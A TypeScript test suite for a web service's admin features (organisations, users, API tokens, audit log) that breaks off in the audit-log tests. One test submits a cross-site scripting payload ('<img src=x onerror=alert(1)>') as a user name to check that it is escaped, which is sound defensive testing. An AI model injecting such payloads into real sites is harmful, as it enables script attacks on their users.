import { randomUUID } from 'node:crypto'
import type { LightMyRequestResponse } from 'fastify'
import { sql } from 'kysely'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { createApp } from '../src/app.js'
import type { AuditRepository } from '../src/modules/audit/audit.repository.js'
import { auditService } from '../src/modules/audit/audit.service.js'
import type { Role } from '../src/modules/auth/permissions.js'
import { Agent, createTestApp, type TestApp } from './helpers/app.js'
import { serverUrl } from './helpers/database.js'
import { FACTORY_PASSWORD } from './helpers/factories.js'

let t: TestApp

beforeAll(async () => {
  t = await createTestApp()
})
afterAll(() => t.close())

const db = () => t.testDb.database.db
const tag = () => randomUUID().slice(0, 8)

// ---- reading pages ----

function decode(text: string) {
  return text.replace(/&#39;/g, "'").replace(/&quot;/g, '"').replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&amp;/g, '&')
}

/** The GOV.UK error summary's links: the message and the field each points to. */
function errorSummary(body: string) {
  const block = /<div class="govuk-error-summary"[\s\S]*?<\/ul>/.exec(body)?.[0] ?? ''
  return [...block.matchAll(/<a href="(#[^"]+)">([^<]*)<\/a>/g)].map((match) => ({ href: match[1], text: decode(match[2]!.trim()) }))
}

/** The inline error message shown against one field. */
function fieldError(body: string, id: string) {
  const match = new RegExp(`<p id="${id}-error" class="govuk-error-message">[\\s\\S]*?</span>([^<]*)</p>`).exec(body)
  return match ? decode(match[1]!.trim()) : undefined
}

function expectFormError(response: LightMyRequestResponse, field: string, message: string) {
  expect(response.statusCode).toBe(400)
  expect(response.body).toContain('<title>Error: ')
  expect(errorSummary(response.body)).toContainEqual({ href: `#${field}`, text: message })
  expect(fieldError(response.body, field)).toBe(message)
}

function temporaryPasswordOn(page: LightMyRequestResponse) {
  const password = /<code id="temporary-password">([^<]+)<\/code>/.exec(page.body)?.[1]
  expect(password, 'temporary password on the page').toMatch(/^[A-Za-z0-9_-]{24}$/)
  return password!
}

/** The rows of the audit page's table, as text. */
function auditTable(body: string) {
  const caption = /<caption class="govuk-table__caption govuk-table__caption--m">(\d+) entr/.exec(body)?.[1]
  const tbody = /<tbody class="govuk-table__body">([\s\S]*?)<\/tbody>/.exec(body)?.[1] ?? ''
  const rows = [...tbody.matchAll(/<tr class="govuk-table__row">([\s\S]*?)<\/tr>/g)].map((match) => decode(match[1]!.replace(/<[^>]+>/g, ' ').replace(/\s+/g, ' ').trim()))
  return { total: Number(caption), rows }
}

/** RFC 4180 CSV, enough to read the export back cell by cell. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let cell = ''
  let quoted = false
  const endCell = () => {
    row.push(cell)
    cell = ''
  }
  const endRow = () => {
    endCell()
    rows.push(row)
    row = []
  }
  for (let i = 0; i < text.length; i++) {
    const char = text[i]!
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        cell += '"'
        i++
      } else if (char === '"') quoted = false
      else cell += char
    } else if (char === '"') quoted = true
    else if (char === ',') endCell()
    else if (char === '\n') endRow()
    else if (char !== '\r') cell += char
  }
  if (cell || row.length) endRow()
  return rows
}

// ---- arranging ----

async function auditEvents(filter: { action?: string; recordId?: string; userId?: string }) {
  let query = db().selectFrom('audit_events').selectAll().orderBy('id')
  if (filter.action) query = query.where('action', '=', filter.action)
  if (filter.recordId) query = query.where('record_id', '=', filter.recordId)
  if (filter.userId) query = query.where('user_id', '=', filter.userId)
  return query.execute()
}

async function userRow(id: string) {
  return db().selectFrom('users').selectAll().where('id', '=', id).executeTakeFirstOrThrow()
}

async function organisationsNamed(name: string) {
  return db().selectFrom('organisations').selectAll().where(sql<string>`lower(name)`, '=', name.toLowerCase()).execute()
}

async function sessionsOf(userId: string) {
  return db().selectFrom('sessions').select('id_hash').where('user_id', '=', userId).execute()
}

function signInForm(email: string, password: string) {
  const agent = new Agent(t.app)
  return { agent, response: agent.submit('/sign-in', { email, password }) }
}

async function issueToken(userId: string, by: { id: string; organisationId: string }) {
  const issued = await t.services.apiTokens.issue({ userId: by.id, organisationId: by.organisationId, ip: null }, { userId, name: `token ${tag()}`, expiresInDays: 30 })
  return issued.token
}

const bearer = (token: string, url = '/api/v1/me') => t.app.inject({ url, headers: { authorization: `Bearer ${token}` } })

async function signedInAs(roles: Role[], options: { name?: string; organisationId?: string } = {}) {
  const user = await t.factories.user({ roles, ...options })
  const agent = await t.signIn(user.email, user.password)
  return Object.assign(agent, { user })
}

// ---- organisations ----

describe('organisations administration', () => {
  it('lets an admin add an organisation through the form: it is listed and audited', async () => {
    const admin = await t.signInAs(['admin'])
    const name = `Charnwood Borough Council ${tag()}`
    const form = await admin.get('/admin/organisations/new')
    expect(form.statusCode).toBe(200)
    expect(form.body).toContain('Add an organisation')

    const response = await admin.submit('/admin/organisations/new', { name: `  ${name}  `, type: 'council' })
    expect(response.statusCode).toBe(302)
    const id = /^\/admin\/organisations\/([0-9a-f-]{36})\?created=1$/.exec(String(response.headers.location))?.[1]
    expect(id).toBeDefined()

    const shown = await admin.get(response.headers.location as string)
    expect(shown.statusCode).toBe(200)
    expect(shown.body).toContain('Organisation added.')
    expect(shown.body).toContain(`<h1 class="govuk-heading-l">${name}</h1>`)
    expect(shown.body).toContain('District or borough council')

    const list = await admin.get('/admin/organisations')
    expect(list.body).toContain(`<a class="govuk-link" href="/admin/organisations/${id}">${name}</a>`)

    const [row] = await organisationsNamed(name)
    expect(row).toMatchObject({ id, name, type: 'council', active: true })
    const audit = await auditEvents({ action: 'organisation.created', recordId: id })
    expect(audit).toHaveLength(1)
    expect(audit[0]).toMatchObject({ user_id: admin.user.id, organisation_id: admin.user.organisationId, record_type: 'organisation', details: { type: 'council' } })
  })

  it('refuses a name already used by another organisation, whatever its case, and creates nothing', async () => {
    const admin = await t.signInAs(['admin'])
    const existing = await t.factories.organisation({ name: `Melton Borough Council ${tag()}` })
    const before = await auditEvents({ action: 'organisation.created' })

    const response = await admin.submit('/admin/organisations/new', { name: existing.name.toUpperCase(), type: 'council' })
    expectFormError(response, 'name', 'An organisation with this name already exists')
    // The form keeps what was typed.
    expect(response.body).toContain(`value="${existing.name.toUpperCase()}"`)

    expect(await organisationsNamed(existing.name)).toHaveLength(1)
    expect(await auditEvents({ action: 'organisation.created' })).toHaveLength(before.length)
  })

  it('shows a field error for a missing name and a missing type', async () => {
    const admin = await t.signInAs(['admin'])
    const count = async () => (await db().selectFrom('organisations').select(sql<number>`count(*)::int`.as('n')).executeTakeFirstOrThrow()).n
    const before = await count()

    const response = await admin.submit('/admin/organisations/new', { name: '   ' })
    expectFormError(response, 'name', 'Enter the name of the organisation')
    expectFormError(response, 'type', 'Select the type of organisation')

    const badType = await admin.submit('/admin/organisations/new', { name: `Rutland ${tag()}`, type: 'pirates' })
    expectFormError(badType, 'type', 'Select the type of organisation')
    expect(errorSummary(badType.body)).toHaveLength(1)
    expect(await count()).toBe(before)
  })

  it('lets an admin change an organisation, and refuses to rename it to another one’s name', async () => {
    const admin = await t.signInAs(['admin'])
    const organisation = await t.factories.organisation({ name: `Hinckley ${tag()}`, type: 'council' })
    const other = await t.factories.organisation({ name: `Blaby ${tag()}` })

    const form = await admin.get(`/admin/organisations/${organisation.id}/edit`)
    expect(form.statusCode).toBe(200)
    expect(form.body).toContain(`value="${organisation.name}"`)

    const renamed = `Hinckley and Bosworth ${tag()}`
    const response = await admin.submit(`/admin/organisations/${organisation.id}/edit`, { name: renamed, type: 'county_council', active: 'true' })
    expect(response.statusCode).toBe(302)
    expect(response.headers.location).toBe(`/admin/organisations/${organisation.id}`)
    expect(await db().selectFrom('organisations').selectAll().where('id', '=', organisation.id).executeTakeFirst()).toMatchObject({ name: renamed, type: 'county_council', active: true })
    const [updated] = await auditEvents({ action: 'organisation.updated', recordId: organisation.id })
    expect(updated).toMatchObject({ user_id: admin.user.id })
    expect((updated!.details.fields as string[]).sort()).toEqual(['name', 'type'])

    // Unticking "active" deactivates it.
    const deactivated = await admin.submit(`/admin/organisations/${organisation.id}/edit`, { name: renamed, type: 'county_council' })
    expect(deactivated.statusCode).toBe(302)
    expect((await db().selectFrom('organisations').select('active').where('id', '=', organisation.id).executeTakeFirstOrThrow()).active).toBe(false)

    const clash = await admin.submit(`/admin/organisations/${organisation.id}/edit`, { name: other.name.toLowerCase(), type: 'council', active: 'true' })
    expectFormError(clash, 'name', 'An organisation with this name already exists')
    expect((await db().selectFrom('organisations').select('name').where('id', '=', organisation.id).executeTakeFirstOrThrow()).name).toBe(renamed)

    const missing = await admin.get(`/admin/organisations/${randomUUID()}/edit`)
    expect(missing.statusCode).toBe(404)
    expect(missing.body).toContain('Page not found')
  })

  it('creates, reads, lists and changes organisations through the API', async () => {
    const admin = await t.signInAs(['admin'])
    const name = `Leicestershire Fire and Rescue ${tag()}`
    const created = await admin.json('POST', '/api/v1/organisations', { name, type: 'fire' })
    expect(created.statusCode).toBe(201)
    const body = created.json()
    expect(body).toMatchObject({ name, type: 'fire', active: true })
    expect(body.id).toMatch(/^[0-9a-f-]{36}$/)
    expect(new Date(body.createdAt).getTime()).not.toBeNaN()
    expect(await auditEvents({ action: 'organisation.created', recordId: body.id })).toHaveLength(1)

    const got = await admin.get(`/api/v1/organisations/${body.id}`)
    expect(got.statusCode).toBe(200)
    expect(got.json()).toEqual(body)

    const patched = await admin.json('PATCH', `/api/v1/organisations/${body.id}`, { name: `${name} Service`, active: false })
    expect(patched.statusCode).toBe(200)
    expect(patched.json()).toMatchObject({ id: body.id, name: `${name} Service`, type: 'fire', active: false })
    const [updated] = await auditEvents({ action: 'organisation.updated', recordId: body.id })
    expect((updated!.details.fields as string[]).sort()).toEqual(['active', 'name'])

    const list = await admin.get('/api/v1/organisations')
    expect(list.statusCode).toBe(200)
    // The list includes inactive organisations.
    expect(list.json()).toContainEqual(expect.objectContaining({ id: body.id, active: false }))
  })

  it('answers invalid API input with a 400 JSON error that says what is wrong', async () => {
    const admin = await t.signInAs(['admin'])
    const invalid = await admin.json('POST', '/api/v1/organisations', { name: '', type: 'pirates' })
    expect(invalid.statusCode).toBe(400)
    expect(invalid.headers['content-type']).toMatch(/^application\/json/)
    const error = invalid.json()
    expect(error).toMatchObject({ statusCode: 400, error: 'Bad Request' })
    expect(error.message).toContain('name: Enter the name of the organisation')
    expect(error.message).toContain('type: Select the type of organisation')

    const existing = await t.factories.organisation()
    const duplicate = await admin.json('POST', '/api/v1/organisations', { name: existing.name.toUpperCase(), type: 'police' })
    expect(duplicate.statusCode).toBe(400)
    expect(duplicate.json()).toEqual({ statusCode: 400, error: 'Bad Request', message: 'An organisation with this name already exists' })
    expect(await organisationsNamed(existing.name)).toHaveLength(1)

    const badPatch = await admin.json('PATCH', `/api/v1/organisations/${existing.id}`, { active: 'yes' })
    expect(badPatch.statusCode).toBe(400)
    expect(badPatch.json().message).toContain('active')

    const badId = await admin.get('/api/v1/organisations/not-a-uuid')
    expect(badId.statusCode).toBe(400)
    expect(badId.json().message).toContain('Organisation id must be a UUID')

    const missing = await admin.get(`/api/v1/organisations/${randomUUID()}`)
    expect(missing.statusCode).toBe(404)
    expect(missing.json()).toEqual({ statusCode: 404, error: 'Not Found', message: 'Organisation not found' })
  })
})

// ---- users ----

describe('users administration', () => {
  it('adds a user through the form, shows the temporary password once, and makes them change it at first sign-in', async () => {
    const admin = await t.signInAs(['admin'])
    const organisation = await t.factories.organisation()
    const email = `new.person.${tag()}@leics.police.example`
    const form = await admin.get(`/admin/users/new?organisationId=${organisation.id}`)
    expect(form.statusCode).toBe(200)
    expect(form.body).toMatch(new RegExp(`<option value="${organisation.id}" selected`))

    const response = await admin.submit('/admin/users/new', { name: 'Priya Patel', email, organisationId: organisation.id, roles: ['case_manager', 'analyst'] })
    expect(response.statusCode).toBe(200)
    expect(response.body).toContain('User added')
    const password = temporaryPasswordOn(response)

    const [row] = await db().selectFrom('users').selectAll().where('email', '=', email).execute()
    expect(row).toMatchObject({ name: 'Priya Patel', organisation_id: organisation.id, roles: ['case_manager', 'analyst'], must_change_password: true, active: true })
    expect(row!.password_hash).not.toContain(password)
    // Only once: the user's own page does not show it.
    const page = await admin.get(`/admin/users/${row!.id}`)
    expect(page.statusCode).toBe(200)
    expect(page.body).toContain('must change temporary password')
    expect(page.body).not.toContain(password)

    const [created] = await auditEvents({ action: 'user.created', recordId: row!.id })
    expect(created).toMatchObject({ user_id: admin.user.id, record_type: 'user', details: { organisationId: organisation.id, roles: ['case_manager', 'analyst'] } })

    const { agent, response: signIn } = signInForm(email, password)
    const signedIn = await signIn
    expect(signedIn.statusCode).toBe(302)
    expect(signedIn.headers.location).toBe('/account/password')
    const home = await agent.get('/')
    expect(home.statusCode).toBe(302)
    expect(home.headers.location).toBe('/account/password')
    const me = await agent.get('/api/v1/me')
    expect(me.statusCode).toBe(403)
    expect(me.json().message).toBe('Change your temporary password before using the service')
    expect((await agent.get('/account/password')).statusCode).toBe(200)
  })

  it('escapes a name that contains markup wherever the new user is shown', async () => {
    const admin = await t.signInAs(['admin'])
    const organisation = await t.factories.organisation()
    const name = `<img src=x onerror=alert(1)> O'Neil ${tag()}`
    const response = await admin.submit('/admin/users/new', { name, email: `markup.${tag()}@example.org`, organisationId: organisation.id, roles: 'case_viewer' })
    expect(response.statusCode).toBe(200)
    temporaryPasswordOn(response)
    expect(response.body).not.toContain('<img src=x')
    expect(response.body).toContain('&lt;img src=x onerror=alert(1)&gt;')
    const list = await admin.get('/admin/users')
    expect(list.body).not.toContain('<img src=x')
  })

  it('refuses an email address already in use, whatever its case', async () => {
    const admin = await t.signInAs(['admin'])
    const existing = await t.factories.user()
    const response = await admin.submit('/admin/users/new', { name: 'Someone Else', email: existing.email.toUpperCase(), organisationId: existing.organisationId, roles: 'case_viewer' })
    expectFormError(response, 'email', 'A user with this email address already exists')
    expect(response.body).not.toContain('temporary-password')
    expect(await db().selectFrom('users').select('id').where('name', '=', 'Someone Else').where('organisation_id', '=', existing.organisationId).execute()).toHaveLength(0)
  })

  it('shows field errors for an invalid email address, no roles, no name and no organisation', async () => {
    const admin = await t.signInAs(['admin'])
    const name = `Nobody ${tag()}`
    const response = await admin.submit('/admin/users/new', { name, email: 'not-an-email', organisationId: '' })
    expectFormError(response, 'email', 'Enter an email address in the correct format, like name@example.com')
    expectFormError(response, 'roles', 'Select at least one role')
    expectFormError(response, 'organisationId', 'Select an organisation')
    expect(response.body).toContain(`value="${name}"`)

    const noName = await admin.submit('/admin/users/new', { name: ' ', email: `x.${tag()}@example.org`, organisationId: (await t.factories.organisation()).id, roles: 'auditor' })
    expectFormError(noName, 'name', 'Enter the full name')
    expect(errorSummary(noName.body)).toHaveLength(1)

    const unknownRole = await admin.submit('/admin/users/new', { name, email: `y.${tag()}@example.org`, organisationId: (await t.factories.organisation()).id, roles: 'superuser' })
    expectFormError(unknownRole, 'roles', 'Select a role from the list')

    const inactive = await t.factories.organisation({ active: false })
    const inactiveOrganisation = await admin.submit('/admin/users/new', { name, email: `z.${tag()}@example.org`, organisationId: inactive.id, roles: 'auditor' })
    expectFormError(inactiveOrganisation, 'organisationId', 'Select an organisation from the list')

    expect(await db().selectFrom('users').select('id').where('name', '=', name).execute()).toHaveLength(0)
  })

  it('gives the same plain-English messages when fields are left out of the post altogether', async () => {
    const admin = await t.signInAs(['admin'])
    const users = await admin.submit('/admin/users/new', {})
    expectFormError(users, 'name', 'Enter the full name')
    expectFormError(users, 'email', 'Enter an email address')
    const organisations = await admin.submit('/admin/organisations/new', {})
    expectFormError(organisations, 'name', 'Enter the name of the organisation')
    const tokens = await admin.submit('/admin/api-tokens/new', {})
    expectFormError(tokens, 'name', 'Enter what the token is for')
    expect(users.body + organisations.body + tokens.body).not.toContain('Invalid input')
  })

  it('changes a user’s roles: their sessions end, and the change is audited with the roles before and after', async () => {
    const admin = await t.signInAs(['admin'])
    const target = await signedInAs(['case_viewer'], { name: `Target ${tag()}` })
    expect((await target.get('/')).statusCode).toBe(200)
    const current = await t.services.users.get(target.user.id)

    const form = await admin.get(`/admin/users/${target.user.id}/edit`)
    expect(form.statusCode).toBe(200)
    expect(form.body).toContain(`value="${current.email}"`)
    expect(form.body).toMatch(/value="case_viewer" checked/)

    const response = await admin.submit(`/admin/users/${target.user.id}/edit`, { name: current.name, email: current.email, organisationId: current.organisationId, roles: ['case_manager', 'board_member'] })
    expect(response.statusCode).toBe(302)
    expect(response.headers.location).toBe(`/admin/users/${target.user.id}?notice=updated`)
    expect((await admin.get(response.headers.location as string)).body).toContain('User changed.')

    expect((await userRow(target.user.id)).roles).toEqual(['case_manager', 'board_member'])
    expect(await sessionsOf(target.user.id)).toHaveLength(0)
    const after = await target.get('/')
    expect(after.statusCode).toBe(302)
    expect(String(after.headers.location)).toMatch(/^\/sign-in/)

    const [updated] = await auditEvents({ action: 'user.updated', recordId: target.user.id })
    expect(updated).toMatchObject({ user_id: admin.user.id, details: { fields: ['roles'], roles: { from: ['case_viewer'], to: ['case_manager', 'board_member'] } } })

    // A change of name alone leaves their sessions alone.
    const again = await t.signIn(target.user.email, FACTORY_PASSWORD)
    const renamed = await admin.submit(`/admin/users/${target.user.id}/edit`, { name: 'Renamed Person', email: current.email, organisationId: current.organisationId, roles: ['case_manager', 'board_member'] })
    expect(renamed.statusCode).toBe(302)
    expect((await again.get('/')).statusCode).toBe(200)
  })

  it('does not let an admin remove the administrator role from their own account', async () => {
    const admin = await signedInAs(['admin'], { name: `Self Admin ${tag()}` })
    const response = await admin.submit(`/admin/users/${admin.user.id}/edit`, { name: 'Self Admin', email: admin.user.email, organisationId: admin.user.organisationId, roles: 'auditor' })
    expectFormError(response, 'roles', 'You cannot remove the administrator role from your own account')
    expect((await userRow(admin.user.id)).roles).toEqual(['admin'])

    const api = await admin.json('PATCH', `/api/v1/users/${admin.user.id}`, { roles: ['auditor'] })
    expect(api.statusCode).toBe(400)
    expect(api.json().message).toBe('You cannot remove the administrator role from your own account')
    expect((await userRow(admin.user.id)).roles).toEqual(['admin'])
    expect((await admin.get('/admin/users')).statusCode).toBe(200)
  })

  it('deactivating a user ends their live session at once and stops their API token', async () => {
    const admin = await t.signInAs(['admin'])
    const target = await signedInAs(['case_manager'])
    const token = await issueToken(target.user.id, admin.user)
    expect((await target.get('/')).statusCode).toBe(200)
    expect((await bearer(token)).statusCode).toBe(200)

    const response = await admin.submit(`/admin/users/${target.user.id}/deactivate`, {}, { formPage: `/admin/users/${target.user.id}` })
    expect(response.statusCode).toBe(302)
    expect(response.headers.location).toBe(`/admin/users/${target.user.id}?notice=deactivated`)
    const page = await admin.get(response.headers.location as string)
    expect(page.body).toContain('User deactivated. They have been signed out.')
    expect(page.body).toContain('Reactivate user')

    const next = await target.get('/')
    expect(next.statusCode).toBe(302)
    expect(String(next.headers.location)).toMatch(/^\/sign-in/)
    const refused = await bearer(token)
    expect(refused.statusCode).toBe(401)
    expect(refused.json().message).toContain('The API token is not valid')
    expect((await signInForm(target.user.email, FACTORY_PASSWORD).response).statusCode).toBe(401)

    expect((await userRow(target.user.id)).active).toBe(false)
    expect(await auditEvents({ action: 'user.deactivated', recordId: target.user.id })).toEqual([expect.objectContaining({ user_id: admin.user.id })])
  })

  it('does not let an admin deactivate their own account', async () => {
    const admin = await t.signInAs(['admin'])
    const response = await admin.submit(`/admin/users/${admin.user.id}/deactivate`, {}, { formPage: `/admin/users/${admin.user.id}` })
    expect(response.statusCode).toBe(302)
    expect(response.headers.location).toBe(`/admin/users/${admin.user.id}?notice=cannot-deactivate-self`)
    expect((await admin.get(response.headers.location as string)).body).toContain('You cannot deactivate your own account.')

    const api = await admin.json('POST', `/api/v1/users/${admin.user.id}/deactivate`)
    expect(api.statusCode).toBe(400)
    expect(api.json().message).toBe('You cannot deactivate your own account')

    expect((await userRow(admin.user.id)).active).toBe(true)
    expect((await admin.get('/')).statusCode).toBe(200)
    expect(await auditEvents({ action: 'user.deactivated', recordId: admin.user.id })).toHaveLength(0)
  })

  it('reactivates a deactivated user, who can then sign in again', async () => {
    const admin = await t.signInAs(['admin'])
    const target = await t.factories.user({ roles: ['analyst'], active: false })
    expect((await signInForm(target.email, target.password).response).statusCode).toBe(401)

    const response = await admin.submit(`/admin/users/${target.id}/reactivate`, {}, { formPage: `/admin/users/${target.id}` })
    expect(response.statusCode).toBe(302)
    expect(response.headers.location).toBe(`/admin/users/${target.id}?notice=reactivated`)
    expect((await admin.get(response.headers.location as string)).body).toContain('User reactivated.')

    expect((await userRow(target.id)).active).toBe(true)
    expect((await signInForm(target.email, target.password).response).statusCode).toBe(302)
    expect(await auditEvents({ action: 'user.reactivated', recordId: target.id })).toEqual([expect.objectContaining({ user_id: admin.user.id })])
  })

  it('resets a password: the new temporary password works, the old one does not, and the lock-out is cleared', async () => {
    const admin = await t.signInAs(['admin'])
    const target = await signedInAs(['board_member'])
    // Lock the account with wrong passwords (the test config allows 5).
    for (let attempt = 0; attempt < 5; attempt++) expect((await signInForm(target.user.email, 'wrong password entirely').response).statusCode).toBe(401)
    const locked = await signInForm(target.user.email, FACTORY_PASSWORD).response
    expect(locked.statusCode).toBe(401)
    // The same answer as a wrong password, so that it does not tell which addresses have accounts.
    expect(locked.body).toContain('Enter a correct email address and password')
    expect((await userRow(target.user.id)).locked_until).not.toBeNull()
    expect((await admin.get(`/admin/users/${target.user.id}`)).body).toContain('locked after failed sign-ins')

    const response = await admin.submit(`/admin/users/${target.user.id}/reset-password`, {}, { formPage: `/admin/users/${target.user.id}` })
    expect(response.statusCode).toBe(200)
    expect(response.body).toContain('Password reset')
    const password = temporaryPasswordOn(response)

    expect(await userRow(target.user.id)).toMatchObject({ failed_sign_in_count: 0, locked_until: null, must_change_password: true })
    // Their existing session ended with the reset.
    expect(String((await target.get('/')).headers.location)).toMatch(/^\/sign-in/)

    expect((await signInForm(target.user.email, FACTORY_PASSWORD).response).statusCode).toBe(401)
    const fresh = await signInForm(target.user.email, password).response
    expect(fresh.statusCode).toBe(302)
    expect(fresh.headers.location).toBe('/account/password')

    expect(await auditEvents({ action: 'user.password_reset', recordId: target.user.id })).toEqual([expect.objectContaining({ user_id: admin.user.id, record_type: 'user' })])
  })

  it('manages users through the API: create with a temporary password, list with filters, change, deactivate and reactivate', async () => {
    const admin = await t.signInAs(['admin'])
    const organisation = await t.factories.organisation()
    const other = await t.factories.organisation()
    const marker = tag()

    const created = await admin.json('POST', '/api/v1/users', { name: `Alice Moss ${marker}`, email: `alice.${marker}@example.org`, organisationId: organisation.id, roles: ['auditor'] })
    expect(created.statusCode).toBe(201)
    const alice = created.json()
    expect(alice).toMatchObject({ name: `Alice Moss ${marker}`, email: `alice.${marker}@example.org`, organisationId: organisation.id, organisationName: organisation.name, roles: ['auditor'], active: true, mustChangePassword: true, lockedUntil: null, lastSignInAt: null })
    expect(alice.temporaryPassword).toMatch(/^[A-Za-z0-9_-]{24}$/)
    expect(await auditEvents({ action: 'user.created', recordId: alice.id })).toHaveLength(1)
    const signIn = await signInForm(alice.email, alice.temporaryPassword).response
    expect(signIn.statusCode).toBe(302)
    expect(signIn.headers.location).toBe('/account/password')

    const bob = await t.factories.user({ name: `Bob Stone ${marker}`, organisationId: organisation.id })
    const gone = await t.factories.user({ name: `Carol Gone ${marker}`, organisationId: organisation.id, active: false })
    const elsewhere = await t.factories.user({ name: `Dan Far ${marker}`, organisationId: other.id })

    const ids = (response: LightMyRequestResponse) => (response.json() as { id: string }[]).map((user) => user.id).sort()
    const searched = await admin.get(`/api/v1/users?search=${encodeURIComponent(`alice moss ${marker}`)}`)
    expect(searched.statusCode).toBe(200)
    expect(ids(searched)).toEqual([alice.id])
    expect(ids(await admin.get(`/api/v1/users?search=${marker}`))).toEqual([alice.id, bob.id, elsewhere.id].sort())
    expect(ids(await admin.get(`/api/v1/users?organisationId=${organisation.id}`))).toEqual([alice.id, bob.id].sort())
    expect(ids(await admin.get(`/api/v1/users?organisationId=${organisation.id}&includeInactive=true`))).toEqual([alice.id, bob.id, gone.id].sort())
    expect(ids(await admin.get(`/api/v1/users?organisationId=${other.id}&search=${marker}`))).toEqual([elsewhere.id])
    // A search is text, not a pattern.
    expect(ids(await admin.get(`/api/v1/users?search=${encodeURIComponent(`%${marker}`)}`))).toEqual([])

    const patched = await admin.json('PATCH', `/api/v1/users/${bob.id}`, { name: `Robert Stone ${marker}`, roles: ['case_manager', 'case_viewer'] })
    expect(patched.statusCode).toBe(200)
    expect(patched.json()).toMatchObject({ id: bob.id, name: `Robert Stone ${marker}`, roles: ['case_manager', 'case_viewer'] })
    const [updated] = await auditEvents({ action: 'user.updated', recordId: bob.id })
    expect(updated!.details).toMatchObject({ fields: ['name', 'roles'], roles: { from: ['case_viewer'], to: ['case_manager', 'case_viewer'] } })
    expect((await admin.get(`/api/v1/users/${bob.id}`)).json()).toMatchObject({ name: `Robert Stone ${marker}` })

    const deactivated = await admin.json('POST', `/api/v1/users/${bob.id}/deactivate`)
    expect(deactivated.statusCode).toBe(200)
    expect(deactivated.json()).toMatchObject({ id: bob.id, active: false })
    const reactivated = await admin.json('POST', `/api/v1/users/${bob.id}/reactivate`)
    expect(reactivated.statusCode).toBe(200)
    expect(reactivated.json()).toMatchObject({ id: bob.id, active: true })
    // Reading the account (not the answers to the changes) is audited too.
    expect((await auditEvents({ recordId: bob.id })).map((event) => event.action)).toEqual(['user.updated', 'user.viewed', 'user.deactivated', 'user.reactivated'])
  })

  it('answers invalid user input on the API with a 400 that names each problem', async () => {
    const admin = await t.signInAs(['admin'])
    const existing = await t.factories.user()
    const invalid = await admin.json('POST', '/api/v1/users', { name: 'X', email: 'nope', organisationId: existing.organisationId, roles: [] })
    expect(invalid.statusCode).toBe(400)
    expect(invalid.json().message).toContain('email: Enter an email address in the correct format')
    expect(invalid.json().message).toContain('roles: Select at least one role')

    const duplicate = await admin.json('POST', '/api/v1/users', { name: 'X', email: existing.email.toUpperCase(), organisationId: existing.organisationId, roles: ['auditor'] })
    expect(duplicate.statusCode).toBe(400)
    expect(duplicate.json().message).toBe('A user with this email address already exists')

    const missing = await admin.json('PATCH', `/api/v1/users/${randomUUID()}`, { name: 'Ghost' })
    expect(missing.statusCode).toBe(404)
    expect(missing.json().message).toBe('User not found')
    const badId = await admin.get('/api/v1/users/123')
    expect(badId.statusCode).toBe(400)
    expect(badId.json().message).toContain('User id must be a UUID')
  })
})

// ---- API tokens ----

describe('API tokens', () => {
  it('issues a token through the form, shows it once, authenticates with it, and revokes it', async () => {
    const admin = await t.signInAs(['admin'])
    const holder = await t.factories.user({ roles: ['auditor'], name: `Token Holder ${tag()}` })
    const name = `Nightly export ${tag()}`

    const form = await admin.get('/admin/api-tokens/new')
    expect(form.statusCode).toBe(200)
    expect(form.body).toContain(`<option value="${holder.id}"`)
    const response = await admin.submit('/admin/api-tokens/new', { userId: holder.id, name, expiresInDays: '90' })
    expect(response.statusCode).toBe(200)
    expect(response.body).toContain('API token issued')
    const token = /<code id="api-token" class="app-code">(scp_[A-Za-z0-9_-]+)<\/code>/.exec(response.body)?.[1]
    expect(token).toBeDefined()

    const me = await bearer(token!)
    expect(me.statusCode).toBe(200)
    expect(me.json()).toMatchObject({ id: holder.id, email: holder.email, roles: ['auditor'], permissions: ['audit:read'], authenticatedBy: 'token' })
    // The token carries the holder's permissions, no more.
    expect((await bearer(token!, '/api/v1/audit-events')).statusCode).toBe(200)
    expect((await bearer(token!, '/api/v1/users')).statusCode).toBe(403)

    const row = await db().selectFrom('api_tokens').selectAll().where('name', '=', name).executeTakeFirstOrThrow()
    expect(row.token_hash).not.toContain(token!)
    expect(row.prefix).toBe(token!.slice(0, 10))
    const list = await admin.get('/admin/api-tokens')
    expect(list.body).toContain(name)
    expect(list.body).toContain(`${row.prefix}…`)
    expect(list.body).not.toContain(token!)
    expect(list.body).toContain(`action="/admin/api-tokens/${row.id}/revoke"`)
    const [issued] = await auditEvents({ action: 'api_token.issued', recordId: row.id })
    expect(issued).toMatchObject({ user_id: admin.user.id, details: { userId: holder.id } })

    const revoke = await admin.submit(`/admin/api-tokens/${row.id}/revoke`, {}, { formPage: '/admin/api-tokens' })
    expect(revoke.statusCode).toBe(302)
    expect(revoke.headers.location).toBe('/admin/api-tokens')
    const refused = await bearer(token!)
    expect(refused.statusCode).toBe(401)
    expect(refused.headers['www-authenticate']).toContain('invalid_token')
    expect((await admin.get('/admin/api-tokens')).body).not.toContain(`action="/admin/api-tokens/${row.id}/revoke"`)
    expect(await auditEvents({ action: 'api_token.revoked', recordId: row.id })).toEqual([expect.objectContaining({ user_id: admin.user.id })])

    // Revoking twice is harmless and not audited twice.
    expect((await admin.submit(`/admin/api-tokens/${row.id}/revoke`, {})).statusCode).toBe(302)
    expect(await auditEvents({ action: 'api_token.revoked', recordId: row.id })).toHaveLength(1)
  })

  it('shows field errors on the issue form and refuses a token for a deactivated user', async () => {
    const admin = await t.signInAs(['admin'])
    // As a browser sends the form with nothing chosen or typed.
    const empty = await admin.submit('/admin/api-tokens/new', { userId: '', name: '  ', expiresInDays: '90' })
    expectFormError(empty, 'userId', 'Select the user the token acts as')
    expectFormError(empty, 'name', 'Enter what the token is for')
    expect(errorSummary(empty.body)).toHaveLength(2)

    const inactive = await t.factories.user({ active: false })
    const response = await admin.submit('/admin/api-tokens/new', { userId: inactive.id, name: 'For someone gone', expiresInDays: '30' })
    expectFormError(response, 'userId', 'Select an active user')
    expect(await db().selectFrom('api_tokens').select('id').where('user_id', '=', inactive.id).execute()).toHaveLength(0)
  })
})

// ---- audit log ----

describe('the audit log', () => {
  /** Two users in two organisations, with events at known times around a UK midnight in summer time. */
  async function arrange() {
    const organisationA = await t.factories.organisation()
    const organisationB = await t.factories.organisation()
    const userA = await t.factories.user({ organisationId: organisationA.id, name: `Audit Alpha ${tag()}` })
    const userB = await t.factories.user({ organisationId: organisationB.id, name: `Audit Bravo ${tag()}` })
